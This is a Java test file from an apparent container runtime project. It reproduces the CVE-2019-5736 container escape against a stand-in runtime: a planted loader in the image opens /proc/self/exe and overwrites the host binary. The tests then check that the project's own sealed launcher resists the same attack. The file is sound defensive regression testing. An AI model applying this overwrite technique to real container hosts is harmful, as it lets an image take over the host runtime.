package boxwright.escapes;

import static boxwright.kernel.Constants.O_RDONLY;
import static boxwright.kernel.Constants.O_WRONLY;
import static java.nio.charset.StandardCharsets.ISO_8859_1;
import static org.assertj.core.api.Assertions.assertThat;
import static org.junit.jupiter.api.Assumptions.assumeTrue;

import boxwright.kernel.Argument;
import boxwright.kernel.Launch;
import boxwright.kernel.Launcher;
import boxwright.kernel.Machine;
import boxwright.kernel.Plan;
import boxwright.kernel.Slot;
import boxwright.run.BoxwrightCommand;
import boxwright.run.BoxwrightCommand.Outcome;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.ArrayList;
import java.util.List;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;

/**
 * CVE-2019-5736: an image whose program is {@code /proc/self/exe} makes the runtime start itself, inside. If it is linked
 * dynamically, the image's own loader runs in it, has its file open by {@code /proc/self/exe}, becomes another program,
 * and then may write to it: the next container is started by what the attacker wrote.
 *
 * <p>Our part of that file is the launcher. It has no loader and no libraries, and lies in a sealed memfd.
 */
class OverwriteTheRuntimeTest {
    private static final String LOADER = "/lib64/ld-linux-x86-64.so.2";
    private static final int KEPT = 9;

    @TempDir
    private Path directory;

    private Attacker attacker;
    private Path runtime = Path.of("");

    @BeforeEach
    void image() throws Exception {
        attacker = Attacker.in(directory);
        // A stand-in for a runtime: it enters the image, and is linked as most programs are.
        String chroot = Machine.needs("chroot");
        assumeTrue(
                Files.readString(Path.of(chroot), ISO_8859_1).contains(LOADER),
                "needs a chroot(8) that is linked to " + LOADER);
        runtime = Files.copy(Path.of(chroot), directory.resolve("runtime"));
        Machine.run("chmod", "755", runtime.toString());
        Files.createDirectories(attacker.image().resolve("lib64"));
        Slot self = Slot.of("self");
        attacker.program(LOADER, plan -> {
            plan.write(Argument.fd(1), "the attacker's loader runs\n");
            plan.open("/proc/self/exe", O_RDONLY, 0).into(self);
            plan.dup3(self.value(), KEPT, 0).because("open, whatever this process becomes");
            plan.execve("/overwrite", List.of("overwrite"), List.of());
        });
        attacker.program("/overwrite", plan -> {
            plan.open("/proc/self/fd/" + KEPT, O_WRONLY, 0).into(self).because("nobody runs it now");
            plan.write(self.value(), "#!/bin/sh\necho owned\n");
        });
        Files.writeString(attacker.image().resolve("script"), "#!/proc/self/exe\n");
        Machine.run("chmod", "755", attacker.image().resolve("script").toString());
    }

    @Test
    void a_runtime_with_libraries_is_overwritten_by_its_image() throws Exception {
        Outcome outcome = byTheStandIn("/proc/self/exe");

        assertThat(outcome.out()).contains("the attacker's loader runs");
        assertThat(Files.readString(runtime, ISO_8859_1)).startsWith("#!/bin/sh\necho owned\n");
    }

    @Test
    void by_a_script_too() throws Exception {
        Outcome outcome = byTheStandIn("/script");

        assertThat(outcome.out()).contains("the attacker's loader runs");
        assertThat(Files.readString(runtime, ISO_8859_1)).startsWith("#!/bin/sh\necho owned\n");
    }

    private Outcome byTheStandIn(String program) {
        String image = attacker.image().toString();
        String enter = "mkdir -p \"$1/proc\" && mount -t proc proc \"$1/proc\" && exec \"$0\" \"$1\" \"$2\"";
        return BoxwrightCommand.outcome(
                new ProcessBuilder(
                        "unshare", "--mount", "--pid", "--fork", "sh", "-c", enter, runtime.toString(), image, program),
                "");
    }

    @Test
    void the_image_has_no_part_in_the_launcher_even_as_the_containers_program() {
        for (String program : List.of("/proc/self/exe", "/script")) {
            Outcome outcome = attacker.boxwright().run("run", attacker.image().toString(), program);

            assertThat(outcome.out()).as(program).isEmpty();
            assertThat(outcome.exitCode()).as(program).isNotZero();
        }
    }

    /** What runs inside after that is the attacker's own, and the file of a process is always that of its program. */
    @Test
    void no_process_inside_has_a_file_of_ours_as_its_program() {
        String look = "for exe in /proc/[0-9]*/exe; do busybox readlink $exe; done";

        assertThat(attacker.shell(List.of(), look).out().lines().distinct()).containsExactly("/bin/busybox");
    }

    @Test
    void the_launchers_file_cannot_be_written_to_by_who_runs_it() {
        // The engine's file, at a moment at which it is nobody's program: the seals hold when nothing else does.
        List<String> seen = new ArrayList<>();
        try (Launch launch = new Launcher(directory)
                .start(
                        Plan.of(plan -> {
                            plan.read(Argument.fd(Launcher.CONTROL), Slot.of("go"));
                            plan.exit_group(0);
                        }),
                        "waiting")) {
            String exe = "/proc/" + launch.pid() + "/exe";
            Machine.Ran kept = Machine.run(
                    "sh",
                    "-c",
                    "exec 9<$0; kill -9 $1; while [ -e $0 ]; do sleep 0.1; done; echo x >/proc/self/fd/9",
                    exe,
                    Long.toString(launch.pid()));
            seen.add(kept.output());
            launch.reap();
        }
        assertThat(seen.getFirst()).contains("Operation not permitted");
    }
}
